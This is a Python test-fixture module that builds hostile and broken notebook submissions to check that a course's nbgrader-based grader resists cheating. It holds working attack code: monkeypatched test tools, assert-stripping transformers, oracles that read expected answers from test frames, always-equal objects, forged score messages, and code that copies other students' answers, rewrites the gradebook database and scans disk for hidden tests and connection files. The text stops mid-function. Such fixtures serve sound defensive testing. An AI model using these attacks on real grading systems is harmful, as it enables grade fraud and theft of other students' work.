"""Handed-in notebooks for the grading tests.

Each case is what a student could hand in: a correct or wrong answer, a hostile or a
broken notebook. ``expected`` is the score it deserves, computed from the lab's own points
(the tests that must fail lose theirs). The real labs' cases (their sources, student
versions and typical wrong answers) use the real labs; the hostile cases and the attacks
use a tiny fixture lab (tests/data/fixture_lab: lab 1's graded cells and nothing else), as
nbgrader's own tests do, so that they cost only what they test and keep working however
the real labs change. benchmarks/grading.py makes the same hostile cases of lab 1.
"""

from __future__ import annotations

import ast
import copy
import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

from coursetools.config import ROOT

Notebook = dict[str, Any]
FIXTURE_LAB = ROOT / "tests" / "data" / "fixture_lab"  # its own labs/ and hidden_tests/
FIXTURE = "fixture_en"  # the assignment of the hostile cases


def lab_folder(assignment: str) -> Path:
    """The source folder of an assignment: a lab of the course, else of the fixture lab."""
    folder = ROOT / "labs" / assignment
    return folder if folder.is_dir() else FIXTURE_LAB / "labs" / assignment


def source(assignment: str) -> Notebook:
    return json.loads((lab_folder(assignment) / f"{assignment}.ipynb").read_text())


def points(nb: Notebook) -> dict[str, float]:
    found = {}
    for cell in nb["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("grade"):
            found[meta["grade_id"]] = float(meta["points"])
    return found


def index(nb: Notebook, grade_id: str) -> int:
    for i, cell in enumerate(nb["cells"]):
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def text(cell: dict[str, Any]) -> str:
    return "".join(cell["source"])


def set_source(nb: Notebook, grade_id: str, code: str) -> None:
    nb["cells"][index(nb, grade_id)]["source"] = code


def replace_in(nb: Notebook, grade_id: str, old: str, new: str) -> None:
    cell = nb["cells"][index(nb, grade_id)]
    assert old in text(cell), f"{old!r} is not in {grade_id}"
    cell["source"] = text(cell).replace(old, new)


def code_cell(nb: Notebook, code: str) -> dict[str, Any]:
    """A new, unrun code cell with an id that is not yet in ``nb``."""
    return {"cell_type": "code", "execution_count": None, "id": f"added-{len(nb['cells'])}",
            "metadata": {}, "outputs": [], "source": code}


def insert_after(nb: Notebook, grade_id: str, code: str) -> None:
    nb["cells"].insert(index(nb, grade_id) + 1, code_cell(nb, code))


def without_device_cell(nb: Notebook) -> Notebook:
    nb["cells"] = [c for c in nb["cells"] if "detect(" not in text(c)]
    return nb


@dataclass
class Case:
    student: str
    make: Callable[[Path], bytes]  # course root -> the file's bytes
    lost: set[str] = field(default_factory=set)  # tests that must score 0
    assignment: str = FIXTURE
    review: bool | None = None  # must (True) or must not (False) be flagged
    intake: bool = True  # False: intake rejects it; the test puts it in submitted/ itself
    events: tuple[str, ...] = ()  # words the grading report must mention
    filename: str = ""  # the handed-in file's name (default: a Colab-like one)

    def expected(self) -> float:
        return sum(v for k, v in points(source(self.assignment)).items() if k not in self.lost)


def _nb(edit: Callable[[Notebook], None], device: bool = False,
        assignment: str = FIXTURE) -> Callable[[Path], bytes]:
    def make(course_root: Path) -> bytes:
        nb = copy.deepcopy(source(assignment))
        if not device:
            without_device_cell(nb)
        edit(nb)
        return json.dumps(nb).encode()
    return make


def _with_root(edit: Callable[[Notebook, Path], None], assignment: str) -> Callable[[Path], bytes]:
    def make(course_root: Path) -> bytes:
        nb = without_device_cell(copy.deepcopy(source(assignment)))
        edit(nb, course_root)
        return json.dumps(nb).encode()
    return make


def _nothing(nb: Notebook) -> None:
    pass


def _strip_nbgrader(nb: Notebook) -> None:
    for cell in nb["cells"]:
        cell["metadata"].pop("nbgrader", None)
    nb["metadata"].pop("dlcourse", None)  # a round trip that lost all metadata


def _pasted(nb: Notebook) -> None:
    test = copy.deepcopy(nb["cells"][index(nb, "test_predict")])
    test["id"] = nb["cells"][index(nb, "test_predict")]["id"]  # editors copy the cell id too
    nb["cells"].insert(index(nb, "test_predict") + 1, test)
    answer = copy.deepcopy(nb["cells"][index(nb, "predict")])
    nb["cells"].append(answer)


def _edited_metadata(nb: Notebook) -> None:
    nb["cells"][index(nb, "test_sse")]["metadata"]["nbgrader"]["points"] = 100
    nb["cells"][index(nb, "test_predict")]["metadata"]["nbgrader"]["grade"] = False
    meta = nb["cells"][index(nb, "test_activations")]["metadata"]["nbgrader"]
    meta.update(locked=False, solution=True)


def _edited_test(nb: Notebook) -> None:
    replace_in(nb, "sse", "return float(np.sum(diff**2))", "return 0.0")
    set_source(nb, "test_sse", "pass  # the test, edited away")


def _monkeypatch(nb: Notebook) -> None:
    # Wrong relu and sse, and, in the first answer cell, what would make the tests pass anyway.
    replace_in(nb, "activations", "return np.maximum(0.0, np.asarray(z, dtype=float))",
               "return np.asarray(z, dtype=float)")
    cell = nb["cells"][index(nb, "activations")]
    cell["source"] = text(cell) + (
        "\n\nimport builtins\nimport math\nimport numpy.testing\n\n"
        "np.allclose = lambda *args, **kwargs: True\n"
        "numpy.testing.assert_allclose = lambda *args, **kwargs: None\n"
        "math.isclose = lambda *args, **kwargs: True\n"
        "builtins.abs = lambda x: 0\n")
    set_source(nb, "sse", "def sse(y, y_hat):\n    return 0.0\n")


def _transformer(nb: Notebook) -> None:
    set_source(nb, "predict", (
        "def predict(X, w, b):\n    raise NotImplementedError()\n\n\n"
        "get_ipython().input_transformers_cleanup.append(\n"
        "    lambda lines: [line for line in lines if 'assert' not in line])\n"))


def _transformer_all(nb: Notebook) -> None:
    insert_after(nb, "test_activations",
                 "get_ipython().input_transformers_cleanup.append(lambda lines: [])")


def _read_others(nb: Notebook, course_root: Path) -> None:
    # Its own sse is missing: it tries to take another student's, and to raise its grade.
    set_source(nb, "sse", f"""import glob, json, os, sqlite3
print("kernel user id:", os.getuid())
stolen = None
patterns = [{str(course_root)!r} + "/submitted/*/*/*.ipynb",
            "../../../*/submitted/*/*/*.ipynb",
            "/tmp/dlcourse-grading-*/*/submitted/*/*/*.ipynb"]
for pattern in patterns:
    for path in glob.glob(pattern):
        try:
            with open(path) as f:
                cells = json.load(f)["cells"]
        except OSError:
            continue
        for cell in cells:
            if "def sse" in "".join(cell["source"]):
                stolen = "".join(cell["source"])
if stolen:
    exec(stolen)
for db in [{str(course_root / "gradebook.db")!r}, "../../gradebook.db"]:
    try:
        con = sqlite3.connect(db)
        con.execute("update grade set manual_score = 99")
        con.commit()
    except Exception:
        pass
""")


def _sys_exit(nb: Notebook) -> None:
    insert_after(nb, "predict", "import sys\nsys.exit()")
    set_source(nb, "sse", "def sse(y, y_hat):\n    import sys\n    sys.exit(1)\n")


def _wrong_then_exit(nb: Notebook) -> None:
    """An answer only the hidden test catches, then a last cell that kills the kernel: the
    restart replays the cells before it, and the hidden test's verdict must survive that."""
    set_source(nb, "sse", "def sse(y, y_hat):\n    return 0.24  # the visible test's value\n")
    nb["cells"].append(code_cell(nb, "import os\nos._exit(1)"))


def _exit_in_hidden_call(nb: Notebook) -> None:
    """Right on the visible test's example, the kernel killed on any other input: only the
    grader's own call of sse dies, and its restart must not erase that verdict."""
    replace_in(nb, "sse", "diff = np.asarray", "if len(y) != 3:\n        import os\n        os._exit(1)\n    diff = np.asarray")


def _tf_noise(nb: Notebook) -> None:
    set_source(nb, "sse", (
        "def sse(y, y_hat):\n"
        "    import tensorflow as tf  # imported here: its start-up messages land in the test\n\n"
        "    diff = tf.constant(np.asarray(y, dtype=float)) - tf.constant(np.asarray(y_hat, dtype=float))\n"
        "    return float(tf.reduce_sum(diff * diff).numpy())\n"))
    set_source(nb, "predict", (
        "import torch\n\n\n"
        "def predict(X, w, b):\n"
        "    X = np.array(X, dtype=float)\n"
        "    X.setflags(write=False)  # torch warns about read-only arrays\n"
        "    scores = torch.from_numpy(X) @ torch.as_tensor(np.asarray(w, dtype=float)) + b\n"
        "    return step(scores.numpy())\n"))


def _stderr(nb: Notebook) -> None:
    replace_in(nb, "sse", "diff = np.asarray", "import sys\n    print('computing', file=sys.stderr)\n    diff = np.asarray")


def _wrong_assignment(course_root: Path) -> bytes:
    return json.dumps({
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"dlcourse": {"lab": "lab99", "lang": "en"}},
        "cells": [{"cell_type": "markdown", "id": "a", "metadata": {}, "source": "# Lab 99: backpropagation"},
                  {"cell_type": "code", "id": "b", "metadata": {}, "execution_count": None,
                   "outputs": [], "source": "def backprop():\n    return 0"}]}).encode()


def hidden_tests(lab: str) -> Any:
    """hidden_tests/<lab>.py, the grader's tests of a lab, as a module (for its constants)."""
    import importlib.util

    spec = importlib.util.spec_from_file_location(f"{lab}_hidden_tests", ROOT / "hidden_tests" / f"{lab}.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def wrong_answers(lab: str) -> list[dict[str, Any]]:
    """The typical mistakes of a lab's answers: tests/wrong_answers/<lab>.yml."""
    path = ROOT / "tests" / "wrong_answers" / f"{lab}.yml"
    assert path.is_file(), f"{path}: every lab needs its typical wrong answers"
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _wrong(assignment: str, mistake: dict[str, Any]) -> Callable[[Path], bytes]:
    def edit(nb: Notebook) -> None:
        replace_in(nb, mistake["cell"], mistake["replace"], mistake["with"])
        if "insert" in mistake:  # a cell of its own after the answer (an attack's patch)
            insert_after(nb, mistake["cell"], mistake["insert"])
    return _nb(edit, device=True, assignment=assignment)


def round_trips() -> list[tuple[str, str]]:
    """(the assignment whose source is graded, the one whose student version is) for each
    lab of the manifest and each of its framework tracks: a lab's languages share their
    code (tests/test_parity.py), so each track makes the round trip once, the source in
    one language and the student version in the other."""
    from coursetools.manifest import assignment_name, load
    from dlcourse.text import LANGS

    trips = []
    for lab in load().labs():
        for t, track in enumerate(lab.tracks or (None,)):
            mine, theirs = LANGS[(t + 1) % 2], LANGS[t % 2]
            trips.append((assignment_name(lab.id, mine, track), assignment_name(lab.id, theirs, track)))
    return trips


def lab_cases() -> dict[str, Case]:
    """For every round trip: the source, the student version, and the typical wrong answers
    of tests/wrong_answers/<lab>.yml for its track, spread over the languages."""
    from coursetools.manifest import assignment_name, parse_assignment
    from dlcourse.text import LANGS

    cases: dict[str, Case] = {}
    for n, (mine, theirs) in enumerate(round_trips(), start=1):
        lab, track, _ = parse_assignment(mine)
        tests = set(points(source(mine)))
        cases[f"{mine}-source"] = Case(f"SRC{n:03d}", _nb(_nothing, True, mine), assignment=mine, review=False)
        cases[f"{theirs}-release"] = Case(f"REL{n:03d}", lambda root, a=theirs: (
            root / "release" / a / f"{a}.ipynb").read_bytes(), lost=tests, assignment=theirs)
        mistakes = [m for m in wrong_answers(lab) if track in m.get("tracks", [track])]
        for k, mistake in enumerate(mistakes):
            assignment = assignment_name(lab, LANGS[k % 2], track)
            cases[f"{assignment}-wrong-{k}"] = Case(
                f"W{n:02d}{k:03d}", _wrong(assignment, mistake), lost=set(mistake["fails"]),
                assignment=assignment)
    return cases


def hostile_cases(assignment: str = FIXTURE) -> dict[str, Case]:
    """Broken and hostile hand-ins of ``assignment`` (lab 1's graded cells: the fixture lab,
    or lab 1 itself in benchmarks/grading.py)."""
    every_test = set(points(source(assignment)))

    def edited(edit: Callable[[Notebook], None], device: bool = False) -> Callable[[Path], bytes]:
        return _nb(edit, device, assignment)

    def case(student: str, make: Callable[[Path], bytes], **kwargs: Any) -> Case:
        return Case(student, make, assignment=assignment, **kwargs)

    return {
        "loop_top_level": case("LOP001", edited(lambda nb: insert_after(nb, "predict", "while True:\n    pass")),
                               events=("stopped after",)),
        "loop_in_graded_function": case("LOP002", edited(lambda nb: replace_in(
            nb, "sse", "    return float(", "    while True:\n        pass\n    return float(")),
            lost={"test_sse"}, events=("test_sse: stopped after",)),
        "loop_ignoring_interrupts": case("LOP003", edited(lambda nb: set_source(nb, "sse", (
            "def sse(y, y_hat):\n    while True:\n        try:\n            while True:\n"
            "                pass\n        except KeyboardInterrupt:\n            pass\n"))),
            lost={"test_sse"}, events=("kernel restarted",)),
        "sys_exit": case("EXI001", edited(_sys_exit), lost={"test_sse"}),
        "os_exit_in_graded_function": case("EXI002", edited(lambda nb: set_source(
            nb, "sse", "def sse(y, y_hat):\n    import os\n    os._exit(1)\n"), device=True),
            lost={"test_sse"}, review=True, events=("kernel restarted",)),
        "os_exit_after_a_wrong_answer": case("EXI004", edited(_wrong_then_exit), lost={"test_sse"},
                                             review=True, events=("kernel restarted",)),
        "os_exit_in_a_hidden_call": case("EXI005", edited(_exit_in_hidden_call), lost={"test_sse"},
                                         review=True, events=("test_sse: KernelDiedError",)),
        "kernel_kills_itself": case("EXI003", edited(lambda nb: insert_after(
            nb, "predict", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")),
            review=True, events=("kernel restarted",)),
        "all_memory": case("MEM001", edited(lambda nb: set_source(nb, "train_perceptron", (
            "def train_perceptron(X, y, lr=1.0, epochs=20):\n    hog = []\n    while True:\n"
            "        hog.append(np.ones(2**24))\n"))), lost={"test_train_perceptron"}),
        "prints_100_mb": case("OUT001", edited(lambda nb: insert_after(nb, "predict", 'print("x" * 100_000_000)')),
                              events=("was cut",)),
        "deleted_test_cell": case("DEL001", edited(lambda nb: nb["cells"].pop(index(nb, "test_sse")) and None),
                                  events=("test_sse was missing",)),
        # Tampering and kernel deaths are flagged for review, with the reason.
        "edited_test_cell": case("EDT001", edited(_edited_test), lost={"test_sse"}, review=True,
                                 events=("test_sse: its locked source was edited",)),
        "edited_metadata_and_points": case("EDT002", edited(_edited_metadata), review=True,
                                           events=("edited metadata",)),
        "not_json": case("BAD001", lambda root: b"this is not a notebook {", lost=every_test,
                         review=True, intake=False, events=("invalid JSON",)),
        "wrong_assignment": case("BAD002", _wrong_assignment, lost=every_test, review=True,
                                 intake=False, events=("wrong assignment",)),
        "empty_file": case("BAD003", lambda root: b"", lost=every_test, review=True, intake=False,
                           events=("empty file",)),
        "lost_nbgrader_metadata": case("MET001", edited(_strip_nbgrader), events=("lost its nbgrader metadata",)),
        "pasted_graded_cells": case("MET002", edited(_pasted), events=("a copy of cell test_predict",)),
        "reads_other_students": case("SPY001", _with_root(_read_others, assignment), lost={"test_sse"}),
        # What the kernel patches, it patches in its own process: the hidden tests run in the
        # grader's (coursetools/grading/proxy.py).
        "monkeypatches_test_tools": case("MON001", edited(_monkeypatch), lost={"test_activations", "test_sse"}),
        "input_transformer_strips_asserts": case(
            "MON002", edited(_transformer), lost={"test_predict", "test_train_perceptron"}),
        "input_transformer_empties_cells": case(
            "MON003", edited(_transformer_all),
            lost={"test_predict", "test_train_perceptron", "test_sse", "test_speedup"}),
        # TensorFlow's C++ start-up lines reach the kernel's stderr asynchronously (they may land
        # in a later cell or none); tests/test_grading_noise.py checks them line by line.
        "framework_noise": case("NOI001", edited(_tf_noise), review=False),
        "own_stderr_output": case("NOI002", edited(_stderr), lost={"test_sse"}, review=True,
                                  events=("only because it wrote to stderr",)),
        # The grader defines its side of the proxy once per kernel; a correct notebook that
        # deletes it between two tests is graded in full all the same (it is sent again).
        "deletes_the_proxys_side": case("PRX001", edited(lambda nb: insert_after(
            nb, "predict", "globals().pop('__dlcourse_reply', None)")), review=False),
    }


HOSTILE: dict[str, Case] = hostile_cases()


# -- Attacks: notebooks that implement nothing and try to get points anyway ------------------
#
# Each attack is the lab's student version (unsolved) plus code of the attacker's: a cell
# before the first answer, which prints the kernel's user id and "ATTACK armed: ...", and,
# where the attack replaces the graded functions, a call after each answer cell of the
# ``forge(namespace, grade_id, functions, values)`` that cell defines. They must score 0 on
# every test; tests/test_grading_attacks.py checks what each one tried besides.

SOLUTION_BLOCK = re.compile(r"^([ \t]*)### BEGIN SOLUTION[^\n]*\n.*?^[ \t]*### END SOLUTION[^\n]*(?:\n|\Z)",
                            re.M | re.S)
HIDDEN_BLOCK = re.compile(r"^[ \t]*### BEGIN HIDDEN TESTS[^\n]*\n.*?^[ \t]*### END HIDDEN TESTS[^\n]*(?:\n|\Z)",
                          re.M | re.S)


def unsolved(assignment: str) -> Notebook:
    """The student version of a lab, as generate_assignment makes it (every solution block
    is ``raise NotImplementedError()``, no hidden tests), without the device cell."""
    nb = without_device_cell(copy.deepcopy(source(assignment)))
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            code = SOLUTION_BLOCK.sub(lambda m: f"{m[1]}raise NotImplementedError()\n", text(cell))
            cell["source"] = HIDDEN_BLOCK.sub("", code)
    return nb


@dataclass(frozen=True)
class Answer:
    grade_id: str  # of the answer cell
    functions: list[str]  # the functions it defines
    values: list[str]  # the names its solution blocks assign (dask_vs_pandas = ...)


def answers(assignment: str) -> list[Answer]:
    """The answer cells of a lab and the names the tests use from each."""
    found = []
    for cell in source(assignment)["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if cell["cell_type"] != "code" or not meta.get("solution"):
            continue
        code = text(cell)
        tree = ast.parse(code)
        blocks = [(code.count("\n", 0, m.start()) + 1, code.count("\n", 0, m.end()) + 1)
                  for m in SOLUTION_BLOCK.finditer(code)]
        functions = [node.name for node in tree.body if isinstance(node, ast.FunctionDef)]
        values = [target.id for node in tree.body if isinstance(node, ast.Assign)
                  and any(start < node.lineno < end for start, end in blocks)
                  for target in node.targets if isinstance(target, ast.Name)]
        found.append(Answer(meta["grade_id"], functions, values))
    return found


def tested_points(assignment: str) -> dict[str, float]:
    """Each graded name of a lab -> the points of the first test cell that uses it."""
    tests = [(text(cell), float(cell["metadata"]["nbgrader"]["points"])) for cell in source(assignment)["cells"]
             if cell["metadata"].get("nbgrader", {}).get("grade") and cell["cell_type"] == "code"]
    return {name: next((pts for code, pts in tests if re.search(rf"\b{name}\b", code)), 0.0)
            for answer in answers(assignment) for name in answer.functions + answer.values}


ATTACK_PRELUDE = ('import os as _os\nprint("kernel user id:", _os.getuid())\n'
                  'print("kernel home:", _os.environ.get("HOME"))\n')


def root_exec_marker(student: str) -> Path:
    """The file that code of ``student``'s would write if the grader ran it as root."""
    return Path("/tmp") / f"pwned-{student}"


def _attack(student: str, assignment: str, setup: str, *, bind: bool = True,
            after: tuple[str, ...] = ()) -> Case:
    """An unsolved ``assignment`` with ``setup`` (and the ``after`` cells) before its first
    answer and, if ``bind``, a ``forge(...)`` call after each answer cell. In the code,
    @STUDENT@, @COURSE@ (the course root), @REPO@ (this repository), @POINTS@
    (tested_points) and @MARKER@ (root_exec_marker) stand for those values."""
    def make(course_root: Path) -> bytes:
        values: dict[str, Any] = {"@STUDENT@": student, "@COURSE@": str(course_root), "@REPO@": str(ROOT),
                                  "@POINTS@": tested_points(assignment),
                                  "@MARKER@": str(root_exec_marker(student))}

        def fill(code: str) -> str:
            for key, value in values.items():
                code = code.replace(key, repr(value))
            return code

        nb = unsolved(assignment)
        cells = answers(assignment)
        if bind:
            for answer in cells:
                insert_after(nb, answer.grade_id, f"forge(globals(), {answer.grade_id!r}, "
                                                  f"{answer.functions!r}, {answer.values!r})")
        first = index(nb, cells[0].grade_id)
        for code in reversed([ATTACK_PRELUDE + setup, *after]):
            nb["cells"].insert(first, code_cell(nb, fill(code)))
        return json.dumps(nb).encode()
    return Case(student, make, lost=set(points(source(assignment))), assignment=assignment)


# 1. Oracles: the graded functions answer what the running test expects, read off the test.
ORACLE_FRAMES = r'''
import ast, inspect, linecache, os
import numpy as np

KEEP = {"list", "tuple", "asarray", "array", "float", "int", "ravel"}  # list(f(x)) == [...]
COMPARE = {"allclose", "isclose", "array_equal", "array_equiv", "assert_allclose", "assert_array_equal",
           "assert_equal", "assert_almost_equal", "assert_array_almost_equal"}


def called(node):
    return getattr(node.func, "id", getattr(node.func, "attr", ""))


def the_call(frame, positions):
    """The parsed code of a test's frame, and the call it is making (by source position)."""
    code = "".join(linecache.getlines(frame.f_code.co_filename, frame.f_globals))
    tree = ast.parse(code)
    where = (positions.lineno, positions.end_lineno, positions.col_offset, positions.end_col_offset)
    calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call)
             and (node.lineno, node.end_lineno, node.col_offset, node.end_col_offset) == where]
    return tree, (calls[0] if calls else None)


def evaluate(node, frame):
    return eval(compile(ast.Expression(node), "<oracle>", "eval"), frame.f_globals, frame.f_locals)


def compared_with(tree, call, frame):
    """What the test compares the call's answer with, evaluated where the test runs."""
    parents = {child: parent for parent in ast.walk(tree) for child in ast.iter_child_nodes(parent)}
    node = call
    while isinstance(parents.get(node), ast.Call) and called(parents[node]) in KEEP:
        node = parents[node]
    parent = parents.get(node)
    if isinstance(parent, ast.Attribute) and parent.attr == "shape":
        compare = parents[parent]
        return np.zeros(evaluate(compare.comparators[0] if compare.left is parent else compare.left, frame))
    if isinstance(parent, ast.BinOp) and isinstance(parent.op, ast.Sub):
        return evaluate(parent.right if parent.left is node else parent.left, frame)
    if isinstance(parent, ast.Compare):
        return evaluate(parent.comparators[0] if parent.left is node else parent.left, frame)
    if isinstance(parent, ast.Call) and called(parent) in COMPARE:
        return evaluate([arg for arg in parent.args if arg is not node][0], frame)
    raise LookupError("not compared")


def find_reference(name, frame, tree):
    """A reference solution of the test: in its frames, or defined further down its cell."""
    for scope in (frame.f_locals, frame.f_globals):
        for key, value in list(scope.items()):
            if callable(value) and key != name and key.startswith(("reference", "solution", "expected")):
                return value
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef) and node.name.startswith(("reference", "solution")):
            namespace = dict(frame.f_globals)
            exec(compile(ast.Module([node], []), "<oracle>", "exec"), namespace)
            return namespace[node.name]
    return None


def oracle(name, original, args, kwargs):
    bound = inspect.signature(original).bind(*args, **kwargs)
    bound.apply_defaults()
    for info in inspect.stack(0)[2:]:  # oracle <- the forged function <- the test
        frame = info.frame
        if os.path.exists(frame.f_code.co_filename):  # library code; cells live in linecache
            continue
        tree, call = the_call(frame, info.positions)
        if call is not None:
            try:
                return compared_with(tree, call, frame)
            except Exception:
                pass
        reference = find_reference(name, frame, tree)
        if reference is not None:
            return reference(*bound.args, **bound.kwargs)
        for key in ("expected", "reference", "want", "answer"):
            for scope in (frame.f_locals, frame.f_globals):
                if key in scope and not callable(scope[key]):
                    return scope[key]
    raise NotImplementedError()


def forged(name, original):
    def answer(*args, **kwargs):
        return oracle(name, original, args, kwargs)
    return answer


def forge(ns, grade_id, functions, values):
    for name in functions:
        ns[name] = forged(name, ns[name])


print("ATTACK armed: graded functions read the test's expected values from its frames")
'''

ORACLE_HISTORY = r'''
import ast, linecache, re

NUMBER = r"[-+]?\d+\.?\d*(?:e[-+]?\d+)?"
AFTER = re.compile(rf"\)*\s*(?:-|==|,)\s*(\[[^\]]*\]|\([^)]*\)|{NUMBER}|\w+)")
calls = {}  # (cell, name) -> calls of name by that cell so far
last = {}


def running_cells():
    """The running cell as the shell's history and caches hold it, newest first."""
    shell = get_ipython()
    found = [shell.user_ns.get("In", [""])[-1], shell.user_ns.get("_ih", [""])[-1],
             shell.history_manager.input_hist_raw[-1]]
    found += [entry[2] for entry in shell.history_manager.get_tail(1, raw=True, include_latest=True)]
    found += ["".join(entry[2]) for entry in list(linecache.cache.values())[-3:][::-1] if len(entry) == 4]
    return list(dict.fromkeys(cell for cell in found if cell))


def closing(code, start):
    depth = 0
    for i in range(start, len(code)):
        depth += {"(": 1, ")": -1}.get(code[i], 0)
        if depth == 0:
            return i + 1
    return len(code)


def answer_in(cell, name, k):
    """What the k-th call of `name` in `cell` is compared with: what follows `- `, `==` or `,`."""
    spots = [m.end() - 1 for m in re.finditer(rf"\b{name}\(", cell)]
    if not spots:
        return None
    m = AFTER.match(cell, closing(cell, spots[k % len(spots)]))
    if m is None:
        return None
    try:
        return ast.literal_eval(m[1])
    except (ValueError, SyntaxError):
        return get_ipython().user_ns.get(m[1])


def remembered(name):
    def answer(*args, **kwargs):
        for cell in running_cells():
            k = calls[cell, name] = calls.get((cell, name), -1) + 1
            value = answer_in(cell, name, k)
            if value is not None:
                last[name] = value
                return value
        if name in last:
            return last[name]
        raise NotImplementedError()
    return answer


def forge(ns, grade_id, functions, values):
    for name in functions:
        ns[name] = remembered(name)


print("ATTACK armed: graded functions read the test's numbers from the cell history")
'''

# 2. Answers that equal anything.
ALWAYS_EQUAL = r'''
import numpy as np


def agree(func, args, kwargs):
    """What numpy's functions say about these values: comparisons agree, the rest computes."""
    if func.__name__ in ("allclose", "isclose", "array_equal", "array_equiv"):
        return True
    if func.__module__.startswith("numpy.testing"):
        return None
    return func._implementation(*args, **kwargs)


class Same(float):
    """A number equal to, and as close as can be to, any other."""
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __hash__(self):
        return 0

    def __sub__(self, other):
        return Same(0.0)

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__

    def __abs__(self):
        return Same(0.0)

    __neg__ = __abs__

    def __array_function__(self, func, types, args, kwargs):
        return agree(func, args, kwargs)


class SameArray(np.ndarray):
    """An array equal to any other, elementwise and as a whole."""
    __eq__, __ne__, __lt__, __le__, __gt__, __ge__ = (Same.__eq__, Same.__ne__, Same.__eq__, Same.__eq__,
                                                      Same.__eq__, Same.__eq__)
    __hash__ = None

    def __sub__(self, other):
        return np.zeros(self.shape).view(SameArray)

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__

    def __abs__(self):
        return np.zeros(self.shape).view(SameArray)

    def __bool__(self):
        return True

    def __iter__(self):
        return iter([Same(0.0)] * len(self))

    def __getitem__(self, index):
        item = super().__getitem__(index)
        return Same(0.0) if np.ndim(item) == 0 else item

    def tolist(self):
        return [Same(0.0)] * len(self)

    def __array_function__(self, func, types, args, kwargs):
        return agree(func, args, kwargs)


def same_as_anything(*args, **kwargs):
    shape = np.shape(args[0])[:1] if args else ()
    return Same(0.0) if shape == () else np.zeros(shape).view(SameArray)


def forge(ns, grade_id, functions, values):
    for name in functions:
        ns[name] = same_as_anything
    for name in values:
        ns[name] = Same(0.0)


print("ATTACK armed: graded functions return values equal to anything")
'''

# 3. The test machinery replaced: asserts become pass, no statement of a cell can fail.
LENIENT = r'''
import ast


class Lenient(ast.NodeTransformer):
    """Every assert becomes pass, and every statement of a cell is in try/except."""
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

    def visit_Module(self, node):
        self.generic_visit(node)
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=[statement], handlers=[handler], orelse=[], finalbody=[]) for statement in node.body]
        return ast.fix_missing_locations(node)


lenient = Lenient()
'''

FAKE_GUARD = LENIENT + r'''
import sys, types

get_ipython().ast_transformers.append(lenient)
# Round 1's grader checked its in-kernel guard through this module: a stand-in that
# reports a clean check, and puts nothing back.
guard = types.ModuleType("_dlcourse_guard")
guard.check = lambda token: print("@@dlcourse-guard", token, "[]")
guard.setup = lambda *args: None
sys.modules["_dlcourse_guard"] = guard
print("ATTACK armed: a fake _dlcourse_guard and an AST transformer that drops asserts")
'''

TRUSTED_CALLBACK = LENIENT + r'''
def wrapped(lines):
    """An input transformer: the whole cell in try/except."""
    if not lines or lines[0].startswith("try:  # wrapped"):
        return lines
    body = ["    " + line if line.strip() else line for line in lines]
    body[-1] = body[-1].rstrip("\n") + "\n"
    return ["try:  # wrapped\n", *body, "    pass\n", "except BaseException:\n", "    pass\n"]


def reinstall(*args):
    """Before every cell (a check of the grader's included), put the transformers back."""
    shell = get_ipython()
    if lenient not in shell.ast_transformers:
        shell.ast_transformers.append(lenient)
    if wrapped not in shell.input_transformers_cleanup:
        shell.input_transformers_cleanup.append(wrapped)


reinstall.__module__ = wrapped.__module__ = "IPython.core.events"  # looks like IPython's own
get_ipython().events.register("pre_run_cell", reinstall)
reinstall()
print("ATTACK armed: a pre_run_cell callback posing as IPython's reinstalls the transformers")
'''

# 4. A score of its own: nbgrader takes a test cell's first execute_result as its points.
FAKE_SCORE = r'''
import itertools, sys

POINTS = @POINTS@
variants = itertools.count()


def claims(name):
    def answer(*args, **kwargs):
        shell = get_ipython()
        variant = next(variants) % 3
        if variant == 0:
            shell.displayhook("full marks")
        elif variant == 1:
            sys.displayhook(POINTS[name])
        else:  # an execute_result message of its own, for the running request
            kernel = shell.kernel
            kernel.session.send(kernel.iopub_socket, "execute_result",
                                {"data": {"text/plain": repr(POINTS[name])}, "metadata": {},
                                 "execution_count": shell.execution_count},
                                parent=kernel.get_parent(), ident=kernel._topic("execute_result"))
        raise NotImplementedError()
    return answer


def forge(ns, grade_id, functions, values):
    for name in functions:
        ns[name] = claims(name)


print("ATTACK armed: graded functions display the test's points as its result")
'''

# 5. The solution from disk: whatever of the course, the grader and other students it finds.
FROM_DISK = r'''
import ctypes, json, os, sys, time

COURSE, REPO = @COURSE@, @REPO@
import importlib.util

OWN = [os.path.realpath(p) for p in (os.getcwd(), os.environ.get("HOME", "/nonexistent"))]
# What a kernel may read: Python, its libraries and the student package with its banks.
LIBRARIES = [os.path.realpath(p) for p in (sys.prefix, sys.base_prefix)]
for package in ("dlcourse", "dlcourse.banks"):
    try:
        LIBRARIES += [os.path.realpath(p) for p in importlib.util.find_spec(package).submodule_search_locations]
    except Exception:
        pass
SKIP = {".git", ".venv", "node_modules", "site-packages", "__pycache__", "_build", "proc", "sys"}
stolen = {}  # answer grade id -> (source, where)
read = []


def mine(path):
    try:
        real = os.path.realpath(path)
    except OSError:  # /proc/<pid>/cwd of another user
        return False
    return any(real == p or real.startswith(p + "/") for p in OWN + LIBRARIES)


def wanted(path):
    """Notebooks, gradebooks, hidden tests, the grader's code and files, connection files."""
    name, parent = os.path.basename(path), os.path.basename(os.path.dirname(path))
    return (name.endswith(".ipynb") or name.startswith("gradebook.db") or parent in ("hidden_tests", "grading")
            or name in ("nbgrader_config.py", "connection.json", "result.json", "grading.log")
            or name.startswith("kernel-") and name.endswith(".json"))


def take(path):
